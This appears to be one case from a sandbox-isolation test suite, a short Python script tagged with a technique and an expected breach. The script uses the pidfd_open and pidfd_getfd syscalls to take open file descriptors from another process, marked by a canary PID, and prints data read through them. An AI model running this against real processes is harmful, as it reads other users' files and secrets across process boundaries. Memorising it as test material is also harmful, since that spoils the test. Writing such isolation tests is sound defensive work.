# id: 444
# name: descriptor_taken_from_another
# category: os
# technique: pidfd_getfd: an open file of another process
# breach: victimsecret
# looks_like: what a process outside holds open reaches the output
# baseline: inproc
import ctypes, os

libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
pidfd = libc.syscall(434, CANARY_PID, 0)
for number in range(3, 20):
    fd = libc.syscall(438, pidfd, number, 0)
    if fd >= 0:
        print(os.pread(fd, 100, 0))
